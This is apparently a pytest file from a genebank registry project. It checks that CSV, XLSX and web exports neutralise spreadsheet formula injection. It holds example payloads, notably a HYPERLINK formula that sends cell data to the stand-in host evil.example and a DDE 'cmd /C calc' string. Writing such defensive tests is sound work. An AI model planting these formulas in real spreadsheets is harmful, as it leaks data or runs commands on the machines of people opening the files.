"""Spreadsheet formula injection (OWASP CSV injection): every CSV and XLSX export neutralises text cells that
start with = + - @ tab or carriage return; numbers stay numbers; MCPD still round-trips through our importer."""
from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete
from sqlmodel import Session, select
from typer.testing import CliRunner

from genbank_registry.cli import app
from genbank_registry.db import make_engine
from genbank_registry.models import Accession, Characterization
from genbank_registry.catalogue import records as catalogue
from genbank_registry.standards import tabular
from importers import loader
from importers.survey_loader import load_survey_file

from .conftest import FIXTURES, web_client

runner = CliRunner()
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
PAYLOADS = {"accename": LINK, "remarks": "+1+1", "collsite": "@SUM(1+1)*cmd|' /C calc'!A0", "collnumb": "-12",
            "cropname": "=1+1"}


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_safe(text: str, delimiter: str = ",") -> list[list[str]]:
    """No cell a spreadsheet would run: text starting with a trigger is quoted; a bare number may be negative."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or _is_number(cell), cell
    return rows


def assert_xlsx_safe(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    for c in cells:
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str):
            assert not c.value.startswith(TRIGGERS), (c.coordinate, c.value)
    return cells


@pytest.fixture
def injected(surveys_url, tmp_path):
    """The demo catalogue and survey, with the payloads in a published accession's and a survey's text."""
    engine = make_engine(surveys_url)
    with Session(engine) as session:
        catalogue.upsert_accession(session, {
            "instcode": "CTU", "accenumb": "INJ-1", "category": "crop_variety", "taxon_name": "Oryza sativa",
            "district_code": "916", "declatitude": 10.0347, "declongitude": 105.7866, "elevation": -3,
            "publication_status": "published", **PAYLOADS})
        session.commit()
    header = (FIXTURES / "surveys" / "demo_surveys.csv").read_text(encoding="utf-8").splitlines()[0]
    survey = tmp_path / "injected-survey.csv"
    with open(survey, "w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        out.writerow(header.split(","))
        out.writerow(["INJ-E1", "2024-03-17", "INJ-SITE", "10.1268", "105.6332", "Ô Môn", "Thới An", LINK,
                      "+1+1", "2", "hour", "Channa striata", "@SUM(1+1)", "7", "present"])
    result = load_survey_file(engine, survey)
    assert result.ok, result
    engine.dispose()
    return surveys_url


def test_neutralise_quotes_text_only_and_restore_undoes_it():
    for text in (LINK, "+1+1", "@SUM(A1)", "-12", "\tx", "\rx", "'=x", "''+1"):
        assert tabular.neutralise(text).startswith("'") and tabular.restore(tabular.neutralise(text)) == text
    for plain in ("Lúa", "'quoted'", "", "1+1"):
        assert tabular.neutralise(plain) == plain == tabular.restore(plain)
    for number in (-12.5, -3, Decimal("-1.5"), 0):
        assert tabular.neutralise(number) == number
    # XLSX: numbers are stored as numbers, negative ones too; payloads as quoted text, never as formulas.
    wb = load_workbook(io.BytesIO(tabular.to_xlsx({"t": (["a", "b", "c"], [[LINK, -12.5, Decimal("-1.5")]])})))
    link, lat, dec = next(wb["t"].iter_rows(min_row=2, values_only=True))
    assert link == "'" + LINK and lat == -12.5 and float(dec) == -1.5 and isinstance(lat, float)
    assert tabular.to_csv((["a", "b"], [["-12", -12.5]])) == "a,b\n'-12,-12.5\n"


def test_cli_exports_neutralise_formulas(injected, tmp_path, monkeypatch):
    monkeypatch.setenv("GENBANK_REGISTRY_DATABASE_URL", injected)
    mcpd = tmp_path / "catalogue.mcpd.csv"
    assert runner.invoke(app, ["export", "mcpd", "--out", str(mcpd)]).exit_code == 0
    rows = assert_csv_safe(mcpd.read_text(encoding="utf-8-sig"))
    header, row = rows[0], next(r for r in rows if "INJ-1" in r)
    cell = dict(zip(header, row))
    assert cell["ACCENAME"] == "'" + LINK and cell["REMARKS"] == "'+1+1" and cell["COLLNUMB"] == "'-12"
    assert cell["ELEVATION"] == "-3" and float(cell["DECLATITUDE"]) == 10.0347  # numbers stay numbers
    for by in ("habitat", "site"):
        out = tmp_path / f"diversity-{by}.csv"
        assert runner.invoke(app, ["report", "diversity", "--by", by, "--format", "csv", "--out", str(out)]).exit_code == 0
        assert_csv_safe(out.read_text(encoding="utf-8-sig"))
    xlsx = tmp_path / "diversity.xlsx"
    assert runner.invoke(app, ["report", "diversity", "--by", "habitat", "--format", "xlsx", "--out", str(xlsx)]
                         ).exit_code == 0
    cells = assert_xlsx_safe(xlsx.read_bytes())
    assert "'" + LINK in [c.value for c in cells]  # the habitat label, as text
    assert any(isinstance(c.value, float) and c.value > 0 for c in cells)  # indices are numbers
    coverage = tmp_path / "coverage.xlsx"
    assert runner.invoke(app, ["report", "coverage", "--format", "xlsx", "--out", str(coverage)]).exit_code == 0
    assert_xlsx_safe(coverage.read_bytes())
    # An import report repeats the file's rejected value: quoted too.
    bad = tmp_path / "bad.csv"
    bad.write_text("INSTCODE,ACCENUMB,GENUS,SAMPSTAT\nCTU,BAD-1,Oryza,=1+1\n", encoding="utf-8")
    report = tmp_path / "bad.report.csv"
    runner.invoke(app, ["import", "mcpd", str(bad), "--report", str(report)])
    rows = assert_csv_safe(report.read_text(encoding="utf-8-sig"))
    assert ["'=1+1"] == [r[2] for r in rows[1:] if r[1] == "SAMPSTAT"]


def test_web_downloads_neutralise_formulas(injected):
    with web_client(injected) as client:
        rows = assert_csv_safe(client.get("/catalogue.csv?q=INJ-1").content.decode("utf-8"))
        cell = dict(zip(rows[0], rows[1]))
        assert cell["accename"] == "'" + LINK and cell["collnumb"] == "'-12" and float(cell["declatitude"]) > 0
        assert float(cell["elevation"]) == -3  # a number, not quoted
        rows = assert_csv_safe(client.get("/downloads/catalogue.mcpd.csv").content.decode("utf-8"))
        assert any("'" + LINK in r for r in rows)
        for table in ("indices", "rarefaction", "bray_curtis"):
            rows = assert_csv_safe(client.get(f"/reports/diversity.csv?by=habitat&table={table}").text)
            assert any("'" + LINK in r for r in rows), table
        cells = assert_xlsx_safe(client.get("/reports/diversity.xlsx?by=habitat").content)
        assert "'" + LINK in [c.value for c in cells]
        assert_xlsx_safe(client.get("/reports/coverage.xlsx").content)
        assert_xlsx_safe(client.get("/downloads/mcpd-template.xlsx").content)
        # Darwin Core Archives are data interchange, not spreadsheets: the text goes to GBIF as written
        # (docs/standards.md).
        with zipfile.ZipFile(io.BytesIO(client.get("/downloads/catalogue.dwca.zip").content)) as z:
            occurrences = z.read("occurrence.txt").decode("utf-8")
            events = z.read("event.txt").decode("utf-8")
        assert f"\t{LINK}\t" in events and "\t+1+1\t" in events and "\t@SUM(1+1)" in occurrences


def test_neutralised_mcpd_round_trips_through_the_importer(injected, tmp_path):
    from genbank_registry.standards.mcpd_export import published_forms, write_mcpd_csv

    engine = make_engine(injected)
    path = tmp_path / "catalogue.mcpd.csv"
    with Session(engine) as s:
        write_mcpd_csv(published_forms(s), path)
        n = s.exec(select(Accession).where(Accession.publication_status == "published")).all()
        count = len(n)
        s.exec(delete(Characterization))
        s.exec(delete(Accession))
        s.commit()
    result = loader.import_mcpd(engine, path, loader.ImportOptions(publish=True))
    assert result.errors == [] and result.added == count, result.problems[:5]
    with Session(engine) as s:
        acc = s.exec(select(Accession).where(Accession.accenumb == "INJ-1")).one()
        assert {k: getattr(acc, k) for k in PAYLOADS} == PAYLOADS and acc.elevation == -3
    again = loader.import_mcpd(engine, path, loader.ImportOptions(publish=True))
    assert again.unchanged == count and again.added == again.updated == 0
    engine.dispose()
